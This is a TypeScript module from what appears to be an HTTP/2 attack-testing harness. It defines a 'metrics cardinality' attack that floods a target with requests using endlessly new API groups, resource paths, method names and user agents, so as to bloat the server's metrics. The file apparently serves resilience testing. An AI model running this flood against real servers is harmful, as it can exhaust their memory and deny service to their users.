// Methods, resources, groups and user agents that do not exist, each another one.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2, closedLoop, head } from '../wire/http2.ts'

export const attack: Attack = {
  reference: 'metrics cardinality',
  does: 'asks with ever new groups, resources, methods and user agents',
  who: ['known', 'unknown'],
  answers: ['200', '401', '403', 'RST_STREAM REFUSED_STREAM', '400', '404', '405', '501'],
  run: (target, signal) => {
    let n = 0
    const ask = (stream: number): Buffer => {
      const path = `/apis/group-${n++}.example.com/v${n}/namespaces/ns-${n}/kind${n}s/name-${n}`
      return h2.headersFrames(stream, head(target, `METHOD${n % 1000}`, path, 'user-agent', `agent-${n}/${n}`))
    }
    return attackHttp2(target, signal, {}, (connection) => closedLoop(connection, 100, ask))
  },
}
